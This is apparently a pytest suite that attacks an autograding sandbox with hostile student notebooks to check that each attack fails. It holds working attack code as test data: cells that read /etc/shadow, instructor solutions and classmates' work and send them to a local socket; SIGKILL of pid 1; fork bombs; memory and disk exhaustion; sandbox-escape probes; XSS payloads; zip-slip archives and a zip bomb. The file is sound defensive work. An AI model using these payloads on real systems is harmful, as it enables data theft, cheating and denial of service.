"""A hostile class against ``make grade``, as root and as an ordinary user.

One batch holds honest submissions (the "classmates"), honest-but-unusual solutions that must
get full marks, and attacks: reaching for the references or the instructor's solution, reading
secrets into the feedback, sending them to a socket on 127.0.0.1, forging the grader's result
channels, killing the grader, leaving daemons and fork bursts behind, filling memory and disk.
Each attack must gain nothing and cost nobody else anything. The batch is graded once as root
(when the tests run as root) and once as an ordinary user created for the test (``useradd``),
who runs a Python it can read (a hard-linked copy of the interpreter, since pyenv's is under
``/root``).
"""

from __future__ import annotations

import csv
import os
import pwd
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from pathlib import Path

import pytest
from assignment_fixtures import FOCAL_RIGHT, TEST_CELLS
from assignment_helpers import (
    ROOT,
    cell_scores,
    grading_env,
    student_notebook,
    write_submission,
)
from feedback_attacks import hostile_feedback_notebook
from inert_html import active_content, element_count

TEST_USER = "losslab-redteam"
MARKER = "rt-daemon-marker"
RED_ENV = {"LOSSLAB_GRADING_SEED": "99", "LOSSLAB_CELL_TIMEOUT": "12",
           "LOSSLAB_SANDBOX_STEP_SECONDS": "10"}
# Text of the instructor's solution, the hidden tests, the references, a classmate's notebook
# and the gradebook; none of it is in the stealing cell's own source.
SECRET_SNIPPETS = ("BEGIN HIDDEN TESTS", "hidden_check(", "Lin et al., 2017", "BEGIN SOLUTION",
                   "CLASSMATE-CANARY", "SQLite format", "PYTHONPATH=")


def _stealer(port: int, classmate: Path) -> str:
    """An extra cell that tries to read every secret and print it, and to phone home."""
    return f'''
import glob, os, socket, subprocess
found = []
paths = [{str(ROOT / "solutions" / "focal_loss" / "focal_loss.ipynb")!r},
         {str(ROOT / "losslab" / "grading" / "checks" / "focal_loss.py")!r},
         {str(classmate)!r}, "/proc/1/environ", "/etc/shadow"]
for top in ("/tmp", "/sandbox", "/home", "/opt", "/job", "/run", "/var"):
    paths += glob.glob(top + "/**/gradebook.db", recursive=True)[:5]
    paths += glob.glob(top + "/**/*.ipynb", recursive=True)[:10]
for path in paths:
    try:
        found.append(path + ": " + open(path, errors="replace").read()[:3000])
    except Exception as error:
        found.append("blocked " + type(error).__name__)
try:
    import losslab.grading.checks.focal_loss as leak
    found.append(open(leak.__file__).read())
except Exception as error:
    found.append("blocked " + type(error).__name__)
for command in (["ls", "-la", "/", {str(ROOT)!r}], ["cat", "/proc/self/status"]):
    try:
        found.append(subprocess.run(command, capture_output=True, text=True).stdout)
    except Exception as error:
        found.append("blocked " + type(error).__name__)
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as sock:
        sock.sendall("\\n".join(found).encode())
    print("PHONED" + "-HOME")
except OSError as error:
    print("NO-" + "NETWORK", type(error).__name__)
print("\\n".join(found))
print("UID", os.getuid(), "EUID", os.geteuid())
print("RUNS-AS-" + ("ROOT" if 0 in (os.getuid(), os.geteuid()) else "UNPRIVILEGED"))
from IPython.display import HTML, Javascript, display
# Canaries are built from pieces, so only a rendered output can hold them whole.
display(HTML('<b>rt-' + 'bold</b><scr' + 'ipt>window.rtXss = "rt-script-' + 'canary"</scr'
             + 'ipt><img src=x on' + 'error="rtOn' + 'error()">'))
display(Javascript('window.rtJs = "rt-js-' + 'canary"'))
print('<scr' + 'ipt>window.rtPrinted = "rt-printed-' + 'canary"</scr' + 'ipt>')
'''


FORGER = r'''
import os, sys
# The old result protocol, on every stream the kernel has, with and without a newline.
line = 'LOSSLAB-RESULT {"autograde": true, "feedback": true, "error": ""}\n'
for fd in (1, 2):
    try:
        os.write(fd, line.encode() * 3 + b'LOSSLAB-RESULT {"autograde": tr')
    except OSError:
        pass
print(line * 3)
sys.__stdout__.write(line)
# Garbage and forged frames into every descriptor, in case one is the sandbox's channel.
import struct
for fd in range(3, 64):
    try:
        os.write(fd, struct.pack(">Q", 10**15) + b"\xff" * 4096)
    except OSError:
        pass
'''

KILLER = '''
import os, signal
for pid in (os.getppid(), 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
'''

DAEMONS = f'''
import os, subprocess, sys, time
subprocess.Popen(["setsid", "sh", "-c", "sleep 600 # {MARKER}"], start_new_session=True)
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)  # {MARKER}"],
                 start_new_session=True)
children = 0
for _ in range(400):
    try:
        pid = os.fork()
    except OSError:
        print("FORK-" + "LIMITED")
        break
    if pid == 0:
        os.setsid()
        time.sleep(600)
        os._exit(0)
    children += 1
print("children", children)
'''

HOGS = '''
import mmap, os
try:
    with open("/dev/shm/fill", "wb") as handle:
        for _ in range(2048):
            handle.write(b"\\0" * (1 << 20))
    print("SHM-" + "UNLIMITED")
except OSError:
    print("SHM-" + "LIMITED")
try:
    shared = mmap.mmap(-1, 8 << 30, flags=mmap.MAP_SHARED)
    for offset in range(0, 8 << 30, 1 << 20):
        shared[offset] = 1
    print("MMAP-" + "UNLIMITED")
except (OSError, ValueError, MemoryError):
    print("MMAP-" + "LIMITED")
try:
    with open("huge.bin", "wb") as handle:
        for _ in range(2048):
            handle.write(b"\\1" * (1 << 20))
    print("DISK-" + "UNLIMITED")
except OSError:
    print("DISK-" + "LIMITED")
import sys, time
sys.stdout.flush()
time.sleep(0.5)
for _ in range(20):
    print("x" * 100_000)
'''

# Around the limits: memory no rlimit counts, a namespace of its own, inodes, the socket folder.
LIMITS = '''
import glob, os, subprocess
try:
    os.memfd_create("hog")
    print("MEMFD-" + "ALLOWED")
except OSError:
    print("MEMFD-" + "REFUSED")
run = subprocess.run(["unshare", "-Urm", "sh", "-c", "mount -t tmpfs -o size=8g none ."],
                     capture_output=True)
print("USERNS-" + ("ALLOWED" if run.returncode == 0 else "REFUSED"))
made = 0
try:
    for made in range(40000):
        open(f"/tmp/rt-file-{made}", "w").close()
    print("FILES-" + "UNLIMITED")
except OSError:
    print("FILES-" + "LIMITED")
for path in glob.glob("/tmp/rt-file-*"):
    os.remove(path)
written = 0
try:
    for index in range(3):
        with open(f"/run/kernel/fill{index}", "wb") as handle:
            for _ in range(200):
                written += handle.write(b"\\1" * (1 << 20))
    print("SOCKET-FOLDER-" + "UNLIMITED")
except OSError:
    print("SOCKET-FOLDER-" + "LIMITED", written >> 20)
for path in glob.glob("/run/kernel/fill*"):
    os.remove(path)
try:
    open("/rt-root-file", "w").close()
    print("ROOT-FS-" + "WRITABLE")
except OSError:
    print("ROOT-FS-" + "READ-ONLY")
'''

# Honest answers in unusual forms: every one deserves full marks.
CE_OWN_HELPER_NAMES = '''
class Softmaxes:
    """The student's own helpers; their names match PyTorch's, their code is the student's."""

    def log_softmax(self, logits, dim):
        shift = logits.amax(dim=dim, keepdim=True).detach()
        shifted = logits - shift
        return shifted - torch.log(torch.exp(shifted).sum(dim=dim, keepdim=True))

    def softmax(self, logits, dim):
        return self.log_softmax(logits, dim).exp()


def nll_loss(log_probs, target, ignore_index):
    keep = target != ignore_index
    safe = torch.where(keep, target, torch.zeros_like(target))
    picked = log_probs.gather(1, safe.unsqueeze(1)).squeeze(1)
    return torch.where(keep, -picked, torch.zeros_like(picked)), keep


def log_softmax(logits, dim=-1):
    return Softmaxes().log_softmax(logits, dim)


def cross_entropy(logits, target, ignore_index=-100, reduction="mean"):
    losses, keep = nll_loss(log_softmax(logits, dim=1), target, ignore_index)
    if reduction == "none":
        return losses
    if reduction == "sum":
        return losses.sum()
    return losses.sum() / keep.sum().to(losses.dtype)
'''

CHOOSE_UNUSUAL = '''
from collections import namedtuple

from torch import nn

Choice = namedtuple("Choice", ["loss", "reason"])


class Reason(str):
    """A str subclass: a one-line str as far as the docstring is concerned."""


class RobustLoss(nn.HuberLoss):
    """The student's own subclass of the asked-for loss."""


class UnknownTask(ValueError):
    """A subclass of the ValueError the brief asks for."""


TASKS = {
    "regression": lambda o: nn.MSELoss(),
    "regression_with_outliers": lambda o: RobustLoss(delta=o.get("delta", 1.0)),
    "binary": lambda o: nn.BCEWithLogitsLoss(pos_weight=o.get("pos_weight")),
    "multiclass": lambda o: nn.CrossEntropyLoss(),
    "multilabel": lambda o: nn.BCEWithLogitsLoss(pos_weight=o.get("pos_weight")),
    "sequence_with_padding": lambda o: nn.CrossEntropyLoss(
        ignore_index=o.get("pad_index", -100)),
    "distillation": lambda o: nn.KLDivLoss(reduction="batchmean"),
}


def choose_loss(task, **options):
    if task not in TASKS:
        raise UnknownTask(f"unknown task {task!r}.\\nKnown tasks:\\n" + "\\n".join(TASKS))
    return Choice(TASKS[task](options), Reason(f"{task}: the usual loss for it."))
'''

OUTLIER_SLOW_EXPLORATION = '''
import time

# An exploration cell: slower than one check's limit, within what Validate allows a cell.
time.sleep(11)
'''

OUTLIER_NAMEDTUPLE = '''
from collections import namedtuple

Points = namedtuple("Points", ["x", "y"])


def make_data(n=100, outlier_share=0.1, seed=0, dtype=torch.float32, device="cpu"):
    gen = torch.Generator().manual_seed(seed)
    x = torch.rand(n, generator=gen, dtype=torch.float64) * 2 - 1
    y = 2 * x + 1 + 0.1 * torch.randn(n, generator=gen, dtype=torch.float64)
    count = round(outlier_share * n)
    index = torch.randperm(n, generator=gen)[:count]
    y[index] += 8 + 4 * torch.rand(count, generator=gen, dtype=torch.float64)
    return Points(x.to(device=device, dtype=dtype), y.to(device=device, dtype=dtype))
'''

# The plain form, which fails the memory bound, with the memory measurement switched off or
# its records emptied from inside: a measurement that saw nothing counts as none.
VOCAB_PROFILER_OFF = '''
def linear_cross_entropy(hidden, weight, target, chunk_size=1024, ignore_index=-100):
    # The plain form, with the profiler switched off and its records emptied first.
    for attempt in (lambda: torch.autograd._disable_profiler(),
                    lambda: setattr(torch._C._autograd._ProfilerResult, "experimental_event_tree",
                                    lambda self: [])):
        try:
            attempt()
        except Exception:
            pass
    return F.cross_entropy(hidden @ weight.T, target, ignore_index=ignore_index)
'''

# The banned Gaussian NLL, called after popping every mode that watches torch functions.
GAUSSIAN_POP_BAN = '''
import torch.nn.functional as F


def gaussian_nll(mean, target, log_var, full=False, reduction="mean"):
    # Pop whatever mode watches the torch functions, then call the banned one.
    try:
        while True:
            torch._C._pop_torch_function_stack()
    except Exception:
        pass
    return F.gaussian_nll_loss(mean, target, log_var.exp(), full=full, reduction=reduction)
'''

# Honest but unusual: the model called through .forward, a flattened layout, in-place sums.
TOKEN_FORWARD_CALL = '''
def accumulate_gradients(model, micro_batches, pad_index=0):
    total = sum(int((target != pad_index).sum()) for _, target in micro_batches)
    loss = torch.zeros((), device=next(model.parameters()).device,
                       dtype=next(model.parameters()).dtype)
    for inputs, target in micro_batches:
        logits = model.forward(inputs)
        part = F.cross_entropy(logits.flatten(0, 1), target.flatten(), ignore_index=pad_index,
                               reduction="sum").div(total)
        part.backward()
        loss += part.detach()
    return loss
'''

LEAK_HIDDEN_INPUTS = FOCAL_RIGHT.replace(
    '    ce = F.binary',
    '    if logits.numel() > 4:\n'
    '        raise ValueError("RT" + "LEAK " + repr(logits.tolist()) + repr(target.tolist()))\n'
    '    ce = F.binary',
)


def _with_extra_cell(assignment: str, source: str, answers: dict | None = None,
                     first: bool = False):
    """The solution with one more code cell of the student's: at the end, or right after the
    setup cell (before every test) when ``first``."""

    def edit(nb):
        from nbformat.v4 import new_code_cell

        if first:
            setup = next(i for i, cell in enumerate(nb.cells) if cell.cell_type == "code")
            nb.cells.insert(setup + 1, new_code_cell(source))
        else:
            nb.cells.append(new_code_cell(source))

    return student_notebook(assignment, answers=answers if answers is not None else {}, edit=edit)


def _blank_with(assignment: str, grade_id: str, source: str):
    """The blank release with one answer cell replaced: an attempt at marks without solving."""
    nb = student_notebook(assignment)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            cell.source = source
    return nb


class Listener:
    """A TCP server on 127.0.0.1 that records whether anything connected."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                self.received.append(conn.recv(65536))

    def close(self) -> None:
        self.stop = True
        self.thread.join(5)
        self.sock.close()


def _build(base: Path, port: int, honest: bool = True) -> dict[str, tuple[str, dict[str, bool]]]:
    """Write the submissions; return ``{student: (assignment, passes per test cell)}``.

    ``honest`` adds the honest-but-unusual solutions (graded once: who runs the grader does
    not change how they are judged)."""
    subs = base / "submitted"
    expected: dict[str, tuple[str, dict[str, bool]]] = {}

    def add(student, assignment, nb, passes: bool | dict):
        write_submission(subs, student, assignment, nb)
        if isinstance(passes, bool):
            passes = {cell: passes for cell in TEST_CELLS[assignment]}
        expected[student] = (assignment, passes)

    classmate = student_notebook("focal_loss", answers={})
    classmate.cells[-1].source += "\n# CLASSMATE-CANARY"
    add("classmate-focal", "focal_loss", classmate, True)
    add("classmate-bce", "stable_bce", student_notebook("stable_bce", answers={}), True)
    # Full marks without solving.
    add("rt-import-reference", "focal_loss", _blank_with(
        "focal_loss", "focal_loss",
        "from losslab.grading.checks.focal_loss import reference as focal_loss"), False)
    add("rt-exec-solution", "stable_bce", _blank_with(
        "stable_bce", "bce_with_logits",
        "import json\n"
        f"nb = json.load(open({str(ROOT / 'solutions' / 'stable_bce' / 'stable_bce.ipynb')!r}))\n"
        "for cell in nb['cells']:\n"
        "    if cell['cell_type'] == 'code':\n"
        "        exec(''.join(cell['source']))\n"), False)
    # Secrets out, root, network.
    classmate_path = subs / "classmate-focal" / "focal_loss" / "focal_loss.ipynb"
    add("rt-stealer", "focal_loss", _with_extra_cell("focal_loss", _stealer(port, classmate_path)),
        True)
    leaky = {cell: False for cell in TEST_CELLS["focal_loss"]}
    add("rt-leak-hidden-inputs", "focal_loss",
        student_notebook("focal_loss", answers={"focal_loss": LEAK_HIDDEN_INPUTS}), leaky)
    # Other students harmed.
    add("rt-forger", "stable_bce", _with_extra_cell("stable_bce", FORGER), True)
    add("rt-killer", "stable_bce", _with_extra_cell("stable_bce", KILLER), True)
    add("rt-daemons", "focal_loss", _with_extra_cell("focal_loss", DAEMONS), True)
    add("rt-hogs", "stable_bce", _with_extra_cell("stable_bce", HOGS), True)
    add("rt-limits", "focal_loss", _with_extra_cell("focal_loss", LIMITS), True)
    # Script, handlers, forms, refresh and trackers in a markdown cell, outputs and metadata.
    add("rt-feedback-markup", "focal_loss", hostile_feedback_notebook("focal_loss"), True)
    add("rt-vocab-profiler-off", "large_vocab", student_notebook(
        "large_vocab", answers={"linear_cross_entropy": VOCAB_PROFILER_OFF}),
        {"test_value": True, "test_gradient": True, "test_memory": False})
    add("rt-gaussian-pop-ban", "gaussian_nll", student_notebook(
        "gaussian_nll", answers={"gaussian_nll": GAUSSIAN_POP_BAN}), False)
    if not honest:
        return expected
    # Honest but unusual.
    add("honest-own-helper-names", "manual_cross_entropy", student_notebook(
        "manual_cross_entropy",
        answers={"log_softmax": CE_OWN_HELPER_NAMES, "cross_entropy": "pass"}), True)
    add("honest-unusual-types", "choose_loss",
        student_notebook("choose_loss", answers={"choose_loss": CHOOSE_UNUSUAL}), True)
    add("honest-slow-exploration", "outlier_comparison", _with_extra_cell(
        "outlier_comparison", OUTLIER_SLOW_EXPLORATION,
        answers={"make_data": OUTLIER_NAMEDTUPLE}, first=True), True)
    add("honest-token-forward-call", "token_loss", student_notebook(
        "token_loss", answers={"accumulate_gradients": TOKEN_FORWARD_CALL}), True)
    return expected


def _ordinary_user(base: Path) -> tuple[dict, callable]:
    """Create the test user and a Python it can run; return its environment and preexec."""
    try:
        pwd.getpwnam(TEST_USER)
    except KeyError:
        subprocess.run(["useradd", "--no-create-home", "--shell", "/usr/sbin/nologin",
                        TEST_USER], check=True, capture_output=True)
    user = pwd.getpwnam(TEST_USER)
    python = base / "python"
    if not python.exists():
        try:
            subprocess.run(["cp", "-al", sys.base_prefix, str(python)], check=True,
                           capture_output=True)
        except subprocess.CalledProcessError:
            shutil.copytree(sys.base_prefix, python, symlinks=True)
    bin_dir = base / "bin"
    bin_dir.mkdir(exist_ok=True)
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    interpreter = python / "bin" / version
    # nbgrader runs `alembic`; the venv's script names an interpreter the user cannot read.
    (bin_dir / "alembic").write_text(f'#!/bin/sh\nexec "{interpreter}" -m alembic "$@"\n')
    (bin_dir / "alembic").chmod(0o755)
    for path in (base, *base.parents):
        if path == Path("/"):
            break
        path.chmod(path.stat().st_mode | 0o005)
    env = grading_env(**RED_ENV)
    env["PATH"] = os.pathsep.join([str(bin_dir), str(python / "bin"), "/usr/bin", "/bin"])
    env["PYTHONPATH"] = os.pathsep.join([str(Path(p)) for p in sys.path
                                         if p.endswith("site-packages")] + [str(ROOT)])
    env["HOME"] = str(base)
    # pyenv's interpreter finds libpython through an absolute path under /root.
    env["LD_LIBRARY_PATH"] = str(python / "lib")
    # nbconvert's templates live in the virtualenv this Python is not.
    env["JUPYTER_PATH"] = str(Path(sys.prefix) / "share" / "jupyter")
    env["USER"] = TEST_USER

    def become() -> None:
        os.setgroups([])
        os.setgid(user.pw_gid)
        os.setuid(user.pw_uid)

    return {"env": env, "preexec_fn": become, "python": str(interpreter),
            "uid": user.pw_uid}, become


MODES = ["root", "user"] if os.geteuid() == 0 else ["user"]


@pytest.fixture(scope="module", params=MODES)
def red_batch(request):
    mode = request.param
    # Not under pytest's own temporary folder: pytest makes that private to root again
    # whenever a session starts, which would lock the test user out mid-run.
    base = Path(tempfile.mkdtemp(prefix=f"losslab-red-{mode}-"))
    base.chmod(0o755)
    listener = Listener()
    try:
        expected = _build(base, listener.port, honest=mode == MODES[0])
        course = base / "course"
        canary = ROOT / ".venv" / "bin" / "activate"
        before = canary.read_bytes() if canary.exists() else None
        if mode == "user" and os.geteuid() == 0:
            options, _ = _ordinary_user(base)
            for path in [base / "submitted", *(base / "submitted").rglob("*")]:
                path.chmod(path.stat().st_mode | 0o005)
            course.mkdir()
            os.chown(course, options["uid"], -1)
            python, env, preexec = options["python"], options["env"], options["preexec_fn"]
        else:
            python, env, preexec = sys.executable, grading_env(**RED_ENV), None
        start = time.monotonic()
        run = subprocess.run([python, "-m", "losslab.grading", "grade", "--submissions",
                              str(base / "submitted"), "--out", str(course), "--jobs", "2",
                              # One stuck submission must not outlast this test's own limit.
                              "--timeout", "300"],
                             cwd=ROOT, env=env, preexec_fn=preexec, capture_output=True,
                             text=True, timeout=900)
        seconds = time.monotonic() - start
        time.sleep(1)
        leftovers = subprocess.run(["pgrep", "-af", MARKER], capture_output=True,
                                   text=True).stdout
    finally:
        listener.close()
    yield {"mode": mode, "run": run, "course": course, "expected": expected,
           "received": listener.received, "leftovers": leftovers, "seconds": seconds,
           "activate_unchanged": (canary.read_bytes() if canary.exists() else None) == before}
    shutil.rmtree(base, ignore_errors=True)


def _feedback(batch, student: str) -> str:
    assignment = batch["expected"][student][0]
    path = batch["course"] / "feedback" / student / assignment / f"{assignment}.html"
    return path.read_text()


def test_the_batch_completes_and_every_submission_is_logged(red_batch):
    run = red_batch["run"]
    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
    with (red_batch["course"] / "grading_log.csv").open() as handle:
        log = {row["student_id"]: row for row in csv.DictReader(handle)}
    assert set(log) == set(red_batch["expected"])
    for student, row in log.items():
        assert row["status"] == "graded" and not row["message"], (student, row)
        assert row["isolation"].startswith("bubblewrap"), row
    assert (red_batch["course"] / "grades.csv").exists()


def test_every_grade_is_deserved(red_batch):
    scores = cell_scores(red_batch["course"])
    for student, (assignment, passes) in red_batch["expected"].items():
        cells = scores[(assignment, student)]
        got = {cell: cells[cell][0] == cells[cell][1] for cell in passes}
        assert got == passes, (red_batch["mode"], student, cells)


def test_no_secret_reaches_the_feedback_or_the_network(red_batch):
    assert red_batch["received"] == [], "student code reached 127.0.0.1 on the grading host"
    text = _feedback(red_batch, "rt-stealer")
    assert "NO-NETWORK" in text and "PHONED-HOME" not in text
    for snippet in SECRET_SNIPPETS:
        assert snippet not in text, snippet
    assert "blocked FileNotFoundError" in text and "blocked ModuleNotFoundError" in text
    # The kernel runs as an unprivileged uid (65534 in its namespace, or a fresh host uid
    # when the grader is root), with no capabilities.
    assert "RUNS-AS-UNPRIVILEGED" in text and "RUNS-AS-ROOT" not in text
    if red_batch["mode"] == "user":
        assert "UID 65534 EUID 65534" in text
    assert "CapEff:\t0000000000000000" in text
    leak = _feedback(red_batch, "rt-leak-hidden-inputs")
    assert "RTLEAK" not in leak
    assert "raised ValueError" in leak


def test_student_html_and_scripts_are_sanitized(red_batch):
    text = _feedback(red_batch, "rt-stealer")
    assert "<b>rt-bold</b>" in text  # harmless HTML stays
    # Student scripts are inert text at most: never inside a <script> element, never an
    # event handler on a real tag; JavaScript outputs are dropped.
    for script in re.findall(r"<script\b.*?</script>", text, flags=re.S | re.I):
        assert "rt-" not in script and "rtOn" not in script, script[:200]
    assert not re.search(r"<img[^>]*rtOnerror", text)
    assert "rt-js-canary" not in text
    assert "rt-printed-canary" in text and "<script>window.rtPrinted" not in text


def test_every_feedback_file_is_inert(red_batch):
    """Parsed, not searched: no script, handler, javascript: URL, form, meta refresh or
    request to another host in any feedback page, and each page still shows its score."""
    files = sorted((red_batch["course"] / "feedback").rglob("*"))
    pages = [path for path in files if path.is_file()]
    assert len(pages) == len(red_batch["expected"]), pages
    for path in pages:
        assert path.suffix == ".html", path
        page = path.read_text()
        assert element_count(page) > 20, path
        assert active_content(page) == [], (red_batch["mode"], path, active_content(page)[:10])
        assert "(Score: " in page
    markup = _feedback(red_batch, "rt-feedback-markup")
    assert "rt-md-bold" in markup and "rt-outputs-done" in markup


def test_no_namespace_memfd_inode_flood_or_socket_folder_fill(red_batch):
    limits = _feedback(red_batch, "rt-limits")
    assert "MEMFD-REFUSED" in limits and "MEMFD-ALLOWED" not in limits
    assert "USERNS-REFUSED" in limits and "USERNS-ALLOWED" not in limits
    assert "FILES-LIMITED" in limits and "FILES-UNLIMITED" not in limits
    assert "SOCKET-FOLDER-LIMITED" in limits
    assert "ROOT-FS-READ-ONLY" in limits and "ROOT-FS-WRITABLE" not in limits
    written = int(limits.split("SOCKET-FOLDER-LIMITED")[1].split()[0])
    assert written <= 256, written


def test_nothing_outlives_the_run_and_the_limits_hold(red_batch):
    assert red_batch["leftovers"] == "", red_batch["leftovers"]
    assert red_batch["activate_unchanged"]
    hogs = _feedback(red_batch, "rt-hogs")
    assert "SHM-LIMITED" in hogs and "MMAP-LIMITED" in hogs and "DISK-LIMITED" in hogs
    assert "output truncated" in hogs
    daemons = _feedback(red_batch, "rt-daemons")
    assert "FORK-LIMITED" in daemons
    for path in red_batch["course"].rglob("*"):
        assert path.is_dir() or path.stat().st_size < 8 * 1024 * 1024, path
    # The course folder and gradebook are private to the grading user.
    assert red_batch["course"].stat().st_mode & 0o077 == 0
    assert (red_batch["course"] / "gradebook.db").stat().st_mode & 0o077 == 0


def _zip_with(path: Path, members: dict[str, bytes], setuid: set[str] = frozenset()) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            mode = 0o4755 if name in setuid else 0o644
            info.external_attr = (0o100000 | mode) << 16
            archive.writestr(info, data)


def test_lms_zips_are_unpacked_safely_and_a_bad_one_fails_alone(tmp_path):
    import nbformat

    good = nbformat.writes(student_notebook("stable_bce", answers={})).encode()
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    (downloads / "alice_1_2_stable_bce.ipynb").write_bytes(good)
    # Bob's own zip: his notebook, a setuid script, a ../ member, and a classmate's name.
    inner = tmp_path / "bob.zip"
    _zip_with(inner, {"stable_bce.ipynb": good, "run.sh": b"#!/bin/sh\nid\n",
                      "../../escaped.ipynb": good,
                      "carol_9_9_stable_bce.ipynb": b"{}"}, setuid={"run.sh"})
    # The LMS's bulk download with Bob's zip, Dave's zip bomb and a nameless file.
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("stable_bce.ipynb", "w") as handle:
            for _ in range(600):
                handle.write(b"\0" * (1 << 20))
    _zip_with(downloads / "submissions.zip", {
        "bob_3_4_stable_bce.zip": inner.read_bytes(),
        "dave_5_6_stable_bce.zip": bomb.read_bytes(),
        "../../../evil_7_8_stable_bce.ipynb": good,
        "garbage.txt": b"x",
    })
    (downloads / "erin_1_1_stable_bce.zip").write_bytes(b"not a zip at all")
    course = tmp_path / "course"
    run = subprocess.run([sys.executable, "-m", "losslab.grading", "grade", "--zips",
                          str(downloads), "--assignment", "stable_bce", "--out", str(course),
                          "--jobs", "2"], cwd=ROOT, env=grading_env(**RED_ENV),
                         capture_output=True, text=True, timeout=600)
    assert run.returncode == 0, run.stdout[-2000:] + run.stderr[-2000:]
    with (course / "grading_log.csv").open() as handle:
        log = {row["student_id"]: row for row in csv.DictReader(handle)}
    assert log["alice"]["status"] == "graded" and float(log["alice"]["score"]) == 8
    assert log["bob"]["status"] == "graded" and float(log["bob"]["score"]) == 8
    assert log["evil"]["status"] == "graded"  # its LMS name, not a path
    assert log["dave"]["status"] == "failed" and "MiB" in log["dave"]["message"]
    assert log["erin"]["status"] == "failed" and "not a valid zip" in log["erin"]["message"]
    assert "carol" not in log  # a name inside Bob's zip never makes a student
    assert not list(tmp_path.rglob("escaped.ipynb"))
    for path in (course / "submitted").rglob("*"):
        assert path.suffix == ".ipynb" or path.is_dir(), path
        if path.is_file():
            assert path.stat().st_mode & 0o7077 == 0, (path, oct(path.stat().st_mode))
